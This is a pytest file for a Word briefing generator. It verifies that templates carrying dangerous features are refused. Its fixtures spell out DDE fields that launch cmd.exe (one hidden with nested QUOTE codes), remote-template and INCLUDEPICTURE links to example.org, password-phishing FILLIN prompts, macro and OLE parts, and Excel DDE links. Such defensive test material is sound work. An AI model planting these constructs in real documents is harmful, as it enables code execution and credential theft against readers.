            f'<Relationship Id="{rel_id}" Type="{_REL_TYPE}{kind}" Target="{target}" '
            'TargetMode="External"/>'
        ).encode()
        if not rels:
            return f'<Relationships xmlns="{_RELS_NS}">'.encode() + rel + b"</Relationships>"
        return rels.replace(b"</Relationships>", rel + b"</Relationships>")

    return edit


def _add_to_body(xml: str) -> Callable[[bytes], bytes]:
    return lambda body: body.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)


_SPLIT_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
    ' INCLUDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">TEXT "C:/账目/工资.xlsx" '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def _field(*pieces: str) -> str:
    """A complex field in a paragraph: each piece is instruction text, or "{" / "}" for a nested
    field's begin and end marks (Word puts the parent's code together with their results)."""
    marks = {"{": "begin", "}": "end"}
    runs = "".join(
        f'<w:r><w:fldChar w:fldCharType="{marks[p]}"/></w:r>'
        if p in marks
        else f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>'
        for p in pieces
    )
    return f"<w:p>{runs}</w:p>"


# DDE spelt by a nested QUOTE field (character codes), the obfuscation seen in the wild in 2017
_QUOTED_DDE = _field("{", "{", "QUOTE 68 68 69 65 85 84 79", "}", ' cmd.exe "/c calc" ', "}")
_QUOTED_PICTURE = _field("{", " INCLUDEPIC", "{", "QUOTE TURE", "}", ' "http://example.org/p"', "}")
_MAIL_MERGE = (
    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
    '<w:connectString w:val="DSN=x;DBQ=\\\\server\\share\\a.mdb"/>'
    '<w:query w:val="SELECT * FROM t"/></w:mailMerge>'
)
LINKED = [
    (
        {"word/_rels/document.xml.rels": _add_relationship("image", "file:///C:/秘密/照片.png")},
        "图片链接到外部 file:///C:/秘密/照片.png",
    ),
    (
        {
            "word/_rels/settings.xml.rels": _add_relationship(
                "attachedTemplate", "https://example.org/宏.dotm"
            )
        },
        "附加模板链接到外部 https://example.org/宏.dotm",
    ),
    (
        {
            "word/_rels/document.xml.rels": _add_relationship("aFChunk", "//server/share/a.htm"),
            "word/document.xml": _add_to_body('<w:altChunk r:id="rIdOut"/>'),
        },
        "altChunk",
    ),
    ({"word/document.xml": _add_to_body(_SPLIT_FIELD)}, "域 INCLUDETEXT"),
    (
        {
            "word/document.xml": _add_to_body(
                '<w:p><w:fldSimple w:instr=" ddeauto notepad.exe "><w:r><w:t>x</w:t></w:r>'
                "</w:fldSimple></w:p>"
            )
        },
        "域 DDEAUTO",
    ),
    ({"word/document.xml": _add_to_body(_QUOTED_DDE)}, "域名由嵌套的域拼成（{…}）"),
    ({"word/document.xml": _add_to_body(_QUOTED_PICTURE)}, "域名由嵌套的域拼成（INCLUDEPIC{…}）"),
    (
        {"word/document.xml": _add_to_body(_field(' DATABASE \\d "C:/账目/a.mdb" \\s "SELECT 1"'))},
        "域 DATABASE",
    ),
    (
        {
            "word/settings.xml": lambda xml: xml.replace(
                b"</w:settings>", _MAIL_MERGE.encode() + b"</w:settings>"
            )
        },
        "word/settings.xml：邮件合并的数据源",
    ),
    # round 9: a table of contents reads its entries from the file an RD field names
    ({"word/document.xml": _add_to_body(_field(' RD "\\\\server\\share\\章节.docx" '))}, "域 RD"),
    # round 12: printing the briefing sends this PostScript to the printer, which runs it
    (
        {"word/document.xml": _add_to_body(_field(' PRINT \\p page "/x (1) def" '))},
        "域 PRINT",
    ),
    # updating fields opens a dialog in the template's words, a way to ask for a password
    (
        {"word/document.xml": _add_to_body(_field(' FILLIN "请输入邮箱密码以查看全文" '))},
        "域 FILLIN",
    ),
    ({"word/document.xml": _add_to_body(_field(' ASK pw "请输入口令" '))}, "域 ASK"),
    # round 9: field code deleted as a tracked change ("拒绝所有修订" restores it)
    (
        {
            "word/document.xml": _add_to_body(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del w:id="1" w:author="a">'
                '<w:r><w:delInstrText>INCLUDETEXT "C:/账目/工资.docx"</w:delInstrText></w:r>'
                '</w:del><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            )
        },
        "域 INCLUDETEXT",
    ),
    # round 11: a relationship to an address passes as a hyperlink (followed only on a click),
    # but a picture names its relationship by id alone: LibreOffice fetched this one on opening
    (
        {
            "word/_rels/document.xml.rels": _add_relationship(
                "hyperlink", "http://example.org/t.png"
            ),
            "word/document.xml": _add_to_body(
                '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/'
                'drawingml/2006/main" r:link="rIdOut"/></w:drawing></w:r></w:p>'
            ),
        },
        "超链接 http://example.org/t.png 被用作 blip link",
    ),
    # round 11: no space between the field's name and its quoted argument
    (
        {
            "word/document.xml": _add_to_body(
                '<w:p><w:fldSimple w:instr="INCLUDEPICTURE&quot;http://example.org/t.png&quot;">'
                "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
            )
        },
        "域 INCLUDEPICTURE",
    ),
]


_VML_NS = (
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)


def _vml_picture(attributes: str) -> str:
    return (
        f'<w:p><w:r><w:pict><v:shape {_VML_NS} style="width:20pt;height:20pt">'
        f"<v:imagedata {attributes}/></v:shape></w:pict></w:r></w:p>"
    )


def _add_part(data: bytes) -> Callable[[bytes], bytes]:
    return lambda _old: data


def _content_type(part: str, kind: str) -> Callable[[bytes], bytes]:
    override = f'<Override PartName="{part}" ContentType="{kind}"/>'.encode()
    return lambda types: types.replace(b"</Types>", override + b"</Types>")


_MACRO_TYPE = "application/vnd.ms-office.vbaProject"
CODE = [
    (
        {
            "word/vbaProject.bin": _add_part(b"\xd0\xcf\x11\xe0 VBA"),
            "[Content_Types].xml": _content_type("/word/vbaProject.bin", _MACRO_TYPE),
        },
        "word/vbaProject.bin：宏（VBA 工程）",
    ),
    (
        {
            "[Content_Types].xml": lambda types: types.replace(
                b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
            )
        },
        "[Content_Types].xml：启用宏的内容类型（/word/document.xml）",
    ),
    (
        {
            "word/embeddings/oleObject1.bin": _add_part(b"\xd0\xcf\x11\xe0 Package"),
            "word/_rels/document.xml.rels": lambda rels: rels.replace(
                b"</Relationships>",
                f'<Relationship Id="rIdOle" Type="{_REL_TYPE}oleObject" '
                'Target="embeddings/oleObject1.bin"/></Relationships>'.encode(),
            ),
            "word/document.xml": _add_to_body(
                f'<w:p><w:r><w:object><o:OLEObject {_VML_NS} Type="Embed" ProgID="Package" '
                'r:id="rIdOle"/></w:object></w:r></w:p>'
            ),
        },
        "嵌入的 OLE 对象",
    ),
    (
        {"word/document.xml": _add_to_body(_vml_picture('src="http://example.org/t.png"'))},
        "word/document.xml：VML 图片链接到外部 http://example.org/t.png",
    ),
    (
        {"word/document.xml": _add_to_body(_vml_picture('o:href="\\\\server\\pics\\t.png"'))},
        "VML 图片链接到外部 \\\\server\\pics\\t.png",
    ),
    (
        {
            "word/document.xml": _add_to_body(
                '<w:p><w:r><w:object><w:control r:id="rIdX"/></w:object></w:r></w:p>'
            )
        },
        "ActiveX 控件",
    ),
]


@pytest.mark.parametrize(
    ("edits", "words"),
    LINKED + CODE,
    ids=[
        "linked-picture",
        "remote-template",
        "altchunk",
        "split-includetext",
        "ddeauto",
        "dde-named-by-a-nested-quote",
        "includepicture-completed-by-a-nested-quote",
        "database",
        "mail-merge-query",
        "rd-referenced-document",
        "print-postscript",
        "fillin-prompt",
        "ask-prompt",
        "field-code-deleted-as-a-revision",
        "hyperlink-used-as-a-linked-picture",
        "includepicture-quoted-without-a-space",
        "macro-project",
        "docm-renamed",
        "ole-package",
        "vml-src",
        "vml-href",
        "activex",
    ],
)
def test_a_template_whose_briefing_would_fetch_or_run_something_is_refused(
    tmp_path: Path, edits: dict[str, Callable[[bytes], bytes]], words: str
) -> None:
    """A linked picture, a remote attached template, an imported chunk, a field that includes
    a file or starts a program: Word acts on them when a reader opens the briefing. A macro
    project (or a .docm renamed .docx), an embedded OLE package, an ActiveX control, a VML
    picture naming its address: code a reader is asked to run, or an address Word may fetch."""
    template = _repack(_template(tmp_path, "{{ masthead.editor }}"), edits)
    output = tmp_path / "out.docx"
    with pytest.raises(TemplateError) as caught:
        render_docx(template, sample_context(), output, timestamp=WHEN)
    assert words in str(caught.value)
    assert "已拒绝使用" in str(caught.value)
    assert not output.exists()
    report = check_template(template, sample_context())
    assert any(words in problem for problem in report.problems), report.problems


def test_a_body_under_another_part_name_is_checked_too(tmp_path: Path) -> None:
    """Word finds the body through the package's relationships and content types, not by its
    name: a template whose body is `word/document.dat` had none of its parts checked, and a
    DDEAUTO field in it went into the briefing. The same template without the field renders,
    and `template check` passes it (it ended with an internal KeyError)."""
    import zipfile

    def renamed(line: str) -> Path:
        with zipfile.ZipFile(_template(tmp_path, line)) as src:
            parts = {info.filename: src.read(info) for info in src.infolist()}
        parts["word/document.dat"] = parts.pop("word/document.xml")
        parts["word/_rels/document.dat.rels"] = parts.pop("word/_rels/document.xml.rels")
        for name in ("[Content_Types].xml", "_rels/.rels"):
            parts[name] = parts[name].replace(b"word/document.xml", b"word/document.dat")
        target = tmp_path / "renamed.docx"
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
            for name, data in parts.items():
                dst.writestr(name, data)
        return target

    field = '<w:fldSimple w:instr=" DDEAUTO cmd.exe &quot;/c calc&quot; "><w:r><w:t>x</w:t></w:r>'
    body = {"word/document.dat": _add_to_body(f"<w:p>{field}</w:fldSimple></w:p>")}
    evil = _repack(renamed("{{ masthead.editor }}"), body)
    with pytest.raises(TemplateError, match=r"word/document\.dat：域 DDEAUTO.*已拒绝使用"):
        render_docx_bytes(evil, sample_context(), timestamp=WHEN)
    report = check_template(evil, sample_context())
    assert any("word/document.dat：域 DDEAUTO" in p for p in report.problems), report.problems

    plain = renamed("{{ masthead.editor }}")
    assert render_docx_bytes(plain, sample_context(), timestamp=WHEN)
    assert check_template(plain, sample_context()).ok


def test_a_vml_watermark_and_a_macro_hint_are_told_apart(tmp_path: Path) -> None:
    """An office's "内部资料" watermark is a VML shape too: it names no address and renders.
    A macro-enabled template is refused with how to save it without its macros."""
    watermark = (
        f'<w:p><w:r><w:pict><v:shape {_VML_NS} type="#_x0000_t136" o:spid="_x0000_s1"'
        ' style="width:400pt;height:100pt" fillcolor="silver">'
        '<v:fill opacity=".5"/><v:textpath style="font-family:宋体" string="内部资料"/>'
        "</v:shape></w:pict></w:r></w:p>"
    )
    template = _repack(
        _template(tmp_path, "{{ masthead.editor }}"), {"word/document.xml": _add_to_body(watermark)}
    )
    assert render_docx_bytes(template, sample_context(), timestamp=WHEN)
    macro = _repack(_template(tmp_path, "{{ masthead.editor }}"), CODE[0][0])
    with pytest.raises(TemplateError, match=r"“另存为”选“Word 文档（\*\.docx）”，宏即被去掉"):
        render_docx_bytes(macro, sample_context(), timestamp=WHEN)


def test_a_field_printed_with_safe_is_refused_in_the_rendered_briefing(tmp_path: Path) -> None:
    line = (
        '{{ \'</w:t></w:r><w:fldSimple w:instr="INCLUDEPICTURE http://example.org/p.png \\\\d">'
        "<w:r><w:t>图</w:t></w:r></w:fldSimple><w:r><w:t>' | safe }}"
    )
    with pytest.raises(TemplateError, match=r"域 INCLUDEPICTURE.*已拒绝写出"):
        render_docx_bytes(_template(tmp_path, line), sample_context(), timestamp=WHEN)


def test_page_numbers_and_hyperlinks_still_render(tmp_path: Path) -> None:
    """What Word does only on a click (a hyperlink) or by itself harmlessly (PAGE) stays."""
    import io

    page = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:hyperlink r:id="rIdOut"><w:r><w:t>政府网站</w:t></w:r></w:hyperlink></w:p>'
        # nested fields whose parent is named before them: a condition and a formula
        + _field(" IF ", "{", " PAGE ", "}", ' = 1 "首页" "" ')
        + _field("=", "{", " PAGE ", "}", "+1")
    )
    template = _repack(
        _template(tmp_path, "{{ masthead.editor }}"),
        {
            "word/_rels/document.xml.rels": _add_relationship("hyperlink", "https://www.gov.cn/"),
            "word/document.xml": _add_to_body(page),
        },
    )
    out = render_docx_bytes(template, sample_context(), timestamp=WHEN)
    assert Document(io.BytesIO(out)).paragraphs[2].text == "政府网站"
    assert b"https://www.gov.cn/" in _part(out, "word/_rels/document.xml.rels")


def test_a_template_part_in_a_compression_word_never_writes_is_refused(tmp_path: Path) -> None:
    """bzip2 and LZMA are inflated without a bound (a lying size header could fill memory in
    one read); Word writes only stored and deflated parts, so any other method is refused."""
    import zipfile

    template = _template(tmp_path, "{{ masthead.editor }}")
    target = tmp_path / "packed.docx"
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(target, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info), compress_type=zipfile.ZIP_DEFLATED)
        dst.writestr("customXml/item9.xml", b"<a/>" * 1000, compress_type=zipfile.ZIP_LZMA)
    with pytest.raises(TemplateError, match=r"customXml/item9\.xml 使用了 Word 不使用的压缩方式"):
        render_docx_bytes(target, sample_context(), timestamp=WHEN)
    report = check_template(target, sample_context())
    assert any("压缩方式" in problem for problem in report.problems), report.problems


def _central_flags(packed: bytearray, name: str) -> list[int]:
    """Where the general-purpose flags of `name`'s central directory entry lie."""
    found = []
    at = packed.find(b"PK\x01\x02")
    while at >= 0:
        length = int.from_bytes(packed[at + 28 : at + 30], "little")
        if packed[at + 46 : at + 46 + length] == name.encode():
            found.append(at + 8)
        at = packed.find(b"PK\x01\x02", at + 4)
    return found


def test_a_template_part_under_zip_encryption_is_refused_in_chinese(tmp_path: Path) -> None:
    """A part flagged as zip-encrypted made zipfile stop with a RuntimeError, reported as 程序内部
    错误 to be sent to the maintainers; Word never writes such a part (nor opens one)."""
    import zipfile

    template = _template(tmp_path, "{{ masthead.editor }}")
    packed = bytearray(template.read_bytes())
    with zipfile.ZipFile(template) as src:
        info = src.getinfo("word/styles.xml")
    # set the 'encrypted' bit (zipfile never writes it) in the local and the central header
    central = _central_flags(packed, "word/styles.xml")
    assert len(central) == 1
    for flags_at in (info.header_offset + 6, *central):
        packed[flags_at] |= 0x1
    target = tmp_path / "locked.docx"
    target.write_bytes(bytes(packed))
    refused = r"word/styles\.xml 经过 zip 加密（Word 从不这样保存文件，也打不开它），已拒绝处理"
    with pytest.raises(TemplateError, match=refused):
        render_docx_bytes(target, sample_context(), timestamp=WHEN)
    report = check_template(target, sample_context())
    assert any("zip 加密" in problem for problem in report.problems), report.problems
    assert not any("内部错误" in problem for problem in report.problems)


def test_template_init_never_writes_through_a_planted_link(tmp_path: Path) -> None:
    """A shared folder where someone left `模板编写说明.md` as a link to a file of the user's
    (dangling, or existing and overwritten with --force): init must not write into it."""
    from briefing.template_tools import GUIDE_NAME, init_template

    folder = tmp_path / "共享"
    folder.mkdir()
    victim = tmp_path / "家目录" / ".profile"
    (folder / GUIDE_NAME).symlink_to(victim)
    with pytest.raises(TemplateError, match="已存在"):
        init_template(folder, context=sample_context())
    assert not victim.exists()
    victim.parent.mkdir()
    victim.write_text("export PATH=/usr/bin\n", encoding="utf-8")
    init_template(folder, force=True, context=sample_context())
    assert victim.read_text(encoding="utf-8") == "export PATH=/usr/bin\n"
    assert not (folder / GUIDE_NAME).is_symlink()
    assert "模板" in (folder / GUIDE_NAME).read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "target",
    [
        "file:///C:\\Users\\kjj\\AppData\\Roaming\\Microsoft\\Templates\\公文模板.dotx",
        "D:\\模板\\公文模板.dotx",
        "公文模板.dotx",
    ],
    ids=["file-drive", "drive", "relative"],
)
def test_a_template_made_from_an_offices_own_word_template_is_used(
    tmp_path: Path, target: str
) -> None:
    """Word writes an attachedTemplate naming the local .dotx for every document made from a
    custom template, the usual case in an office: the build and the check accept it."""
    template = _repack(
        _template(tmp_path, "{{ masthead.editor }}"),
        {"word/_rels/settings.xml.rels": _add_relationship("attachedTemplate", target)},
    )
    assert render_docx_bytes(template, sample_context(), timestamp=WHEN)
    assert check_template(template, sample_context()).ok


@pytest.mark.parametrize(
    "target",
    ["\\\\server\\share\\宏.dotm", "file://server/share/宏.dotm", "ftp://example.org/宏.dotm"],
)
def test_an_attached_template_on_a_server_is_still_refused(tmp_path: Path, target: str) -> None:
    template = _repack(
        _template(tmp_path, "{{ masthead.editor }}"),
        {"word/_rels/settings.xml.rels": _add_relationship("attachedTemplate", target)},
    )
    with pytest.raises(TemplateError, match="附加模板链接到外部"):
        render_docx_bytes(template, sample_context(), timestamp=WHEN)


def test_a_picture_pasted_from_the_web_is_refused_with_how_to_fix_it(tmp_path: Path) -> None:
    """Word keeps an INCLUDEPICTURE field around a logo pasted from a web page and fetches the
    address when the briefing is opened; the message tells the user how to end the link."""
    pasted = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' INCLUDEPICTURE \\d "http://example.org/logo.png" \\* MERGEFORMATINET </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>徽标</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    template = _repack(
        _template(tmp_path, "{{ masthead.editor }}"), {"word/document.xml": _add_to_body(pasted)}
    )
    with pytest.raises(TemplateError) as caught:
        render_docx_bytes(template, sample_context(), timestamp=WHEN)
    assert "域 INCLUDEPICTURE" in str(caught.value)
    assert "将图片另存后以“插入-图片”重新插入" in str(caught.value)
    assert "“编辑链接”中断开链接" in str(caught.value)


_SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_WORKBOOK = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"


def _with_workbook(template: Path, workbook: bytes) -> Path:
    """`template` holding `workbook` as Word holds a chart's data: a package part, related (a
    chart relates it; the body does here: python-docx keeps only related parts)."""
    return _repack(
        template,
        {
            _WORKBOOK: _add_part(workbook),
            "word/_rels/document.xml.rels": lambda rels: rels.replace(
                b"</Relationships>",
                f'<Relationship Id="rIdBook" Type="{_REL_TYPE}package" '
                'Target="embeddings/Microsoft_Excel_Worksheet.xlsx"/></Relationships>'.encode(),
            ),
            "[Content_Types].xml": lambda types: types.replace(
                b"</Types>",
                b'<Default Extension="xlsx" ContentType="application/'
                b'vnd.openxmlformats-officedocument.spreadsheetml.sheet"/></Types>',
            ),
        },
    )


def _workbook(extra: dict[str, bytes]) -> bytes:
    """A chart's data workbook as Excel writes it (XlsxWriter), with `extra` parts added."""
    import io
    import zipfile

    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    book.add_worksheet().write_row(0, 0, ["主题", "措施数"])
    book.close()
    with zipfile.ZipFile(buffer) as src:
        parts = {info.filename: src.read(info) for info in src.infolist()}
    parts.update(extra)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, data)
    return packed.getvalue()


_LINKED_BOOK = (
    f'<Relationships xmlns="{_RELS_NS}"><Relationship Id="rId1" '
    f'Type="{_REL_TYPE}externalLinkPath" Target="file:///C:/账目/工资.xlsx" TargetMode="External"/>'
    "</Relationships>"
).encode()


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        ({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA"}, f"{_WORKBOOK} 中的 xl/vbaProject.bin：宏"),
        (
            {"xl/externalLinks/_rels/externalLink1.xml.rels": _LINKED_BOOK},
            "外部工作簿链接到外部 file:///C:/账目/工资.xlsx",
        ),
        (
            {
                "xl/externalLinks/externalLink1.xml": f"<externalLink {_SHEET_NS}><ddeLink "
                'ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
            },
            f"{_WORKBOOK} 中的 xl/externalLinks/externalLink1.xml：DDE 链接（启动程序）",
        ),
        (
            {
                "xl/connections.xml": f'<connections {_SHEET_NS}><connection id="1" name="q" '
                'refreshOnLoad="1"><dbPr connection="Provider=SQLOLEDB;Data Source=\\\\srv" '
                'command="SELECT 1"/></connection></connections>'.encode()
            },
            f"{_WORKBOOK} 中的 xl/connections.xml：外部数据连接",
        ),
        ({"xl/embeddings/inner.docx": b""}, "中的 xl/embeddings/inner.docx：嵌入包中又嵌入了包"),
    ],
    ids=["macro", "linked-workbook", "dde", "data-connection", "nested-package"],
)
def test_a_charts_embedded_workbook_is_checked_like_the_template(
    tmp_path: Path, extra: dict[str, bytes], words: str
) -> None:
    """Round 9: the workbook behind a Word chart (a package part Excel opens on 编辑数据) was
    never looked into: a macro project, a link to another workbook, a DDE link or a data
    connection in it went into every briefing. Its parts are now checked as the template's; a
    workbook of plain data is still used."""
    plain = _with_workbook(_template(tmp_path, "{{ masthead.editor }}"), _workbook({}))
    assert _part(render_docx_bytes(plain, sample_context(), timestamp=WHEN), _WORKBOOK)
    assert check_template(plain, sample_context()).ok
    if "xl/embeddings/inner.docx" in extra:  # a package in the package
        extra = {"xl/embeddings/inner.docx": plain.read_bytes()}
    template = _with_workbook(_template(tmp_path, "{{ masthead.editor }}"), _workbook(extra))
    with pytest.raises(TemplateError) as caught:
        render_docx_bytes(template, sample_context(), timestamp=WHEN)
    assert words in str(caught.value)
    assert "“编辑数据”" in str(caught.value)
    report = check_template(template, sample_context())
    assert any(words in problem for problem in report.problems), report.problems


def test_a_star_width_checks_only_the_width_not_the_amount(tmp_path: Path) -> None:
    """`%*d` pads an amount (in 万元, often over 100000) to a width: only the width is bounded."""
    line = '{{ "%*d" % (10, 123456) }}|{{ "%-*s%d" % (6, "人才", 250000) }}|{{ "%%*d%d" % 7 }}'
    out = render_docx_bytes(_template(tmp_path, line), sample_context(), timestamp=WHEN)
    import io

    assert "    123456|人才    250000|%*d7" in "".join(
        p.text for p in Document(io.BytesIO(out)).paragraphs
    )


def test_amounts_are_formatted_whatever_their_size_and_only_widths_are_bounded(
    tmp_path: Path,
) -> None:
    """Round 10: `'{:,}'.format(1234567)` (thousands separators), `'{}'.format(…)` and
    `'%d' % 1234567` were refused ("数值参数 1234567 超过上限", or "用 * 重复"): the amount to
    print was taken for a size. The widths taken from the values stay bounded."""
    import io

    line = (
        "{{ '{:,}'.format(1234567) }}|{{ '{:,.1f}'.format(86510.25) }}|{{ '%d' % 1234567 }}"
        "|{{ '%d' | format(250000) }}|{{ '{a:,}'.format_map({'a': 3000000}) }}"
    )
    out = render_docx_bytes(_template(tmp_path, line), sample_context(), timestamp=WHEN)
    text = "".join(p.text for p in Document(io.BytesIO(out)).paragraphs)
    assert "1,234,567|86,510.2|1234567|250000|3,000,000" in text
    for wide in (
        "{{ '{0:>{1}}'.format('x', 900000000) }}",
        "{{ '{:>{w}}'.format('x', w=900000000) }}",
        "{{ '%*d' | format(900000000, 1) }}",
    ):
        with pytest.raises(TemplateError, match="超过上限 100000"):
            render_docx_bytes(_template(tmp_path, wide), sample_context(), timestamp=WHEN)
